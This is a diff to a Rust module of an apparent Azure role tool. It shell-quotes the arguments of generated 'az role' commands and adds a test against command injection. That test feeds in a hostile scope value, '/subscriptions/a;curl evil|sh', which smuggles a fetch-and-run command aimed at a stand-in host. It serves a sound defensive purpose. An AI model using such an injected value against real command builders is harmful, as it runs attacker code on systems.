@@ -11,7 +11,7 @@ use evenhand_model::catalog::Catalog as _;
 use evenhand_model::glob::Glob;
 use evenhand_model::id::IdentityId;
 use evenhand_model::opset::{OpSet, OperationIx};
-use evenhand_model::proposal::{Kept, LeftOut, NoProposal, Proposal, ProposedFile, Proposes};
+use evenhand_model::proposal::{Kept, LeftOut, NoProposal, Proposal, ProposedFile, Proposes, quoted};
 use evenhand_model::scope::{Pattern, ResourceScope};
 use serde_json::{Value, json};
 
@@ -99,12 +99,8 @@ impl Resolver {
             let file = format!("{short}.role-{number}.json");
             let title = format!("evenhand right-sized {short} {number}");
             let document = self.definition(&title, scopes, operations);
-            steps.push(format!("az role definition create --role-definition @{file}"));
-            for scope in scopes {
-                steps.push(format!(
-                    "az role assignment create --assignee-object-id {short} --role '{title}' --scope {scope}"
-                ));
-            }
+            steps.push(format!("az role definition create --role-definition @{}", quoted(&file)));
+            steps.extend(scopes.iter().map(|scope| assigned(&short, &title, scope)));
             files.push(ProposedFile { name: file, text: format!("{document:#}\n") });
         }
         let access = self.access(identity);
@@ -135,9 +131,9 @@ impl Resolver {
     /// A role definition as `az role definition create` takes it.
     fn definition(&self, title: &str, scopes: &[Arc<str>], operations: &OpSet) -> Value {
         let named = |plane: Plane| -> Vec<String> {
-            let of_plane: OpSet = operations.iter().filter(|at| self.catalogue().plane(*at) == plane).collect();
-            let names = self.catalogue().summarise(&of_plane).into_iter();
-            names.map(|(name, _)| name.trim_end_matches(" (data)").to_owned()).collect()
+            // One by one: a wildcard would grant what the catalogue does not know, and what the vendor adds.
+            let of_plane = operations.iter().filter(|at| self.catalogue().plane(*at) == plane);
+            of_plane.map(|at| self.catalogue().name(at).trim_end_matches(" (data)").to_owned()).collect()
         };
         json!({
             "Name": title,
@@ -150,6 +146,12 @@ impl Resolver {
             "AssignableScopes": scopes,
         })
     }
+}
+
+/// How a role is assigned. The scope is a resource's name as somebody wrote it.
+fn assigned(assignee: &str, title: &str, scope: &str) -> String {
+    let (assignee, title, scope) = (quoted(assignee), quoted(title), quoted(scope));
+    format!("az role assignment create --assignee-object-id {assignee} --role {title} --scope {scope}")
 }
 
 /// A permission of Microsoft Graph as an application's manifest asks for it.
@@ -199,6 +201,16 @@ mod tests {
         assert_eq!(of(&[at]), None, "alone");
         assert_eq!(of(&[below]), None, "without the resource itself");
         assert_eq!(scopes(&ResourceScope::everything()).map(|scopes| scopes.join(" ")).as_deref(), Some("/"));
+    }
+
+    #[test]
+    fn no_name_of_a_scope_ends_the_command_that_assigns_a_role() {
+        assert_eq!(
+            assigned("1", "evenhand right-sized 1 1", "/subscriptions/a"),
+            "az role assignment create --assignee-object-id 1 --role 'evenhand right-sized 1 1' --scope /subscriptions/a"
+        );
+        let hostile = assigned("1", "t", "/subscriptions/a;curl evil|sh");
+        assert!(hostile.ends_with(" --scope '/subscriptions/a;curl evil|sh'"), "{hostile}");
     }
 
     #[test]
